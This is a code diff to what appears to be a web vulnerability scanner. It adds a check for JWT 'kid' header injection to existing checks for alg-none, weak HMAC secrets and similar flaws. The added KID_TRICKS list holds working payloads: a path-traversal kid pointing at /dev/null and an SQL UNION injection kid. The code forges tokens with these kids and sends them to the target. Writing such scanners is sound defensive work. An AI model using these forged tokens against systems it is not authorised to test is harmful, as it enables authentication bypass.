@@ -8,7 +8,7 @@ import { defineCheck, type CandidateInput, type CheckContext } from '../kit/defi
 import { crackHmac, decodeJwt, findJwts, forge, garbleSignature, hint, isHmac, signs, type Jwt } from './support/jwt.js';
 import { header, nonce, routeOf, targetExchanges } from './support/exchanges.js';
 
-type Kind = 'jwt-alg-none' | 'jwt-signature-not-verified' | 'jwt-weak-secret' | 'jwt-expired-accepted';
+type Kind = 'jwt-alg-none' | 'jwt-signature-not-verified' | 'jwt-weak-secret' | 'jwt-expired-accepted' | 'jwt-kid-injection';
 /** Where the token travels: a header (`Authorization: Bearer <jwt>`, a raw `Authorization: <jwt>`, any other), or a cookie. */
 type Carrier = { in: 'header'; name: string; scheme: string } | { in: 'cookie'; name: string };
 interface Data {
@@ -19,6 +19,8 @@ interface Data {
   carrier?: Carrier;
   alg?: string;
   secret?: string;
+  /** For jwt-kid-injection: which KID_TRICKS entry. */
+  kid?: number;
   /** Whether the probe verifies signatures (a garbage signature refused), so a forgery's acceptance means something. */
   verified?: boolean;
 }
@@ -64,6 +66,15 @@ function issuedTokens(ctx: CheckContext<unknown>): Array<{ token: Jwt; x: Exchan
   return [...out.values()];
 }
 
+/**
+ * `kid` values that make a server that looks the key up by kid use a key the attacker knows: an empty file
+ * (path traversal to /dev/null: the key is empty) or an SQL lookup that returns a chosen string.
+ */
+export const KID_TRICKS: ReadonlyArray<{ how: string; kid: string; secret: string }> = [
+  { how: 'path traversal to /dev/null (an empty key)', kid: '../../../../../../../../dev/null', secret: '' },
+  { how: "SQL injection returning the key 'vouch'", kid: "vouch-none' UNION SELECT 'vouch'-- ", secret: 'vouch' },
+];
+
 /** At most this many distinct issued tokens are cracked per scan (an uncracked HS256 token costs ~1 s of CPU). */
 const MAX_CRACKS = 3;
 
@@ -73,6 +84,10 @@ function forgeFor(data: Data, n: string): string {
   const claims = { ...t.claims, vouch: n, ...(data.kind === 'jwt-expired-accepted' ? { exp: Math.floor(Date.now() / 1000) - 86_400 } : {}) };
   if (data.kind === 'jwt-alg-none') return forge({ ...t.header, alg: data.alg ?? 'none' }, claims);
   if (data.kind === 'jwt-weak-secret' || data.kind === 'jwt-expired-accepted') return forge(t.header, claims, data.secret);
+  if (data.kind === 'jwt-kid-injection') {
+    const trick = KID_TRICKS[data.kid ?? 0]!;
+    return forge({ ...t.header, alg: 'HS256', kid: trick.kid }, claims, trick.secret);
+  }
   const [h, , s] = t.raw.split('.');
   return `${h}.${Buffer.from(JSON.stringify(claims)).toString('base64url')}.${s}`; // same signature, new claims
 }
@@ -82,6 +97,7 @@ const TITLES: Record<Kind, string> = {
   'jwt-signature-not-verified': 'JWT signature not verified',
   'jwt-weak-secret': 'JWT signed with a guessable HMAC secret',
   'jwt-expired-accepted': 'Expired JWT accepted',
+  'jwt-kid-injection': 'JWT key chosen by the attacker through the kid header',
 };
 
 const ALGS_NONE: Record<'low' | 'default' | 'high', string[]> = { low: ['none'], default: ['none', 'None'], high: ['none', 'None', 'NONE', 'nOnE'] };
@@ -178,6 +194,17 @@ export default defineCheck({
         const x = await sendWith(ctx, probe.path, forged, carrier);
         if (!ok(x)) continue;
         candidates.push(candidate('jwt-alg-none', x, data, `GET ${probe.path} with an unsigned token (header {"alg":"${alg}"}, the user's claims plus a random one) → ${x.response!.status}; a garbage signature → ${garbled.response!.status}; ${controls}`, forged, `alg "${alg}" accepted`));
+        break;
+      }
+    }
+    // A token with a `kid`: the server looks its key up, perhaps in a file or a table the kid can steer.
+    if (verified && typeof token.header.kid === 'string') {
+      for (const [i, trick] of KID_TRICKS.entries()) {
+        const data: Data = { ...base, kind: 'jwt-kid-injection', kid: i };
+        const forged = forgeFor(data, nonce());
+        const x = await sendWith(ctx, probe.path, forged, carrier);
+        if (!ok(x)) continue;
+        candidates.push(candidate('jwt-kid-injection', x, data, `GET ${probe.path} with an HS256 token whose kid is ${JSON.stringify(trick.kid)}, signed with ${trick.secret ? JSON.stringify(trick.secret) : 'an empty key'} → ${x.response!.status} (${trick.how}); a garbage signature → ${garbled.response!.status}; ${controls}`, forged, `kid ${JSON.stringify(trick.kid)} accepted`));
         break;
       }
     }
